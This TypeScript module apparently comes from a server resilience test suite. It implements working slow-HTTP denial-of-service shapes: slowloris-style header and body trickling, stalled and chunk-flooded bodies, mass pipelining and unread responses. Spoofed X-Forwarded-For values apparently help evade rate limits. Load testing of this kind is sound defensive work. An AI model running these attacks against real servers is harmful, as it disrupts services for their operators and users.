import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { AttackedPath } from './attacked-paths.ts';

export const attackMs = Number(process.env.ATTACK_SECONDS ?? 8) * 1_000;
/**
 * Two rounds of requests that keep their places.
 * They stay below the requests per minute of a network.
 */
const slowMs = attackMs / 2;
/** Few connections that are closed soon come more often, so that they reach all paths. */
const fastMs = attackMs / 8;
const byteMs = 1_000;

export type Target = { url: string; network(): string };
/** One attacker's next request to a path; it ends with an answer of any status, or none. */
export type Shape = (target: Target, path: AttackedPath) => Promise<unknown>;

const open = ({ url }: Target): Socket => {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname).on('error', () => {});
  // Nobody reads the answers.
  return socket.pause();
};

const toHead = ({ network }: Target, { method, path, token }: AttackedPath, ...headers: string[]): string =>
  [
    `${method} ${path} HTTP/1.1`,
    'Host: x',
    `X-Forwarded-For: ${network()}`,
    `Authorization: Bearer ${token}`,
    ...headers,
    '\r\n',
  ].join('\r\n');

type Request = (target: Target, path: AttackedPath) => string;

/** Sends a request at once, and keeps the place for a time. */
const hold =
  (ms: number, request: Request): Shape =>
  async (target, path) => {
    const socket = open(target);
    socket.write(request(target, path));
    await delay(ms);
    socket.destroy();
  };

/** Sends the beginning of a request, and then a byte a second. */
const sendByteByByte =
  (beginning: Request): Shape =>
  async (target, path) => {
    const socket = open(target);
    socket.write(beginning(target, path));
    const end = performance.now() + slowMs;
    while (performance.now() < end) {
      await delay(byteMs);
      socket.write('x');
    }
    socket.destroy();
  };

const getContentType = ({ contentType }: AttackedPath): string => `Content-Type: ${contentType}`;
const getLength = ({ bodyMaxBytes }: AttackedPath): string => `Content-Length: ${bodyMaxBytes}`;
const inChunks = 'Transfer-Encoding: chunked';
const toChunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;

/** A connection without a request. */
export const silence = hold(slowMs, () => '');

export const headersByteByByte = sendByteByByte((target, path) => toHead(target, path, 'X-Slow: ').trimEnd());

export const bodyByteByByte = sendByteByByte(
  (target, path) => toHead(target, path, getContentType(path), getLength(path)) + path.bodyStart,
);

export const announcedBody = hold(slowMs, (target, path) =>
  toHead(target, path, getContentType(path), getLength(path)),
);

export const announcedChunks = hold(
  slowMs,
  (target, path) => toHead(target, path, getContentType(path), inChunks) + toChunk(path.bodyStart),
);

/** All of the largest body but its last byte. */
export const bodyWithoutEnd = hold(
  slowMs,
  (target, path) =>
    toHead(target, path, getContentType(path), getLength(path)) + path.bodyStart.padEnd(path.bodyMaxBytes - 1, 'x'),
);

const pieces = '1\r\nx\r\n'.repeat(16_300);

/** A whole body that comes at once, in chunks of one byte. */
export const bodyInSingleBytes = hold(
  slowMs,
  (target, path) =>
    `${toHead(target, path, getContentType(path), inChunks)}${toChunk(path.bodyStart)}${pieces}0\r\n\r\n`,
);

export const pipelined = hold(fastMs, (target, path) => toHead(target, path).repeat(3_000));

/** As many requests ahead as the server takes, whose answers nobody reads. */
export const unreadAnswers = hold(slowMs, (target, path) => toHead(target, path).repeat(20));

/** Sends a whole request and waits for the answer. */
export const send =
  (change: (path: AttackedPath) => { suffix?: string; body?: BodyInit; headers?: Record<string, string> }): Shape =>
  async ({ url, network }, path) => {
    const { suffix = '', headers = { 'Content-Type': path.contentType }, ...body } = change(path);
    const answer = await fetch(url + path.path + suffix, {
      ...body,
      method: path.method,
      headers: { Authorization: `Bearer ${path.token}`, 'X-Forwarded-For': network(), ...headers },
      signal: AbortSignal.timeout(20_000),
    });
    await answer.body?.cancel();
  };
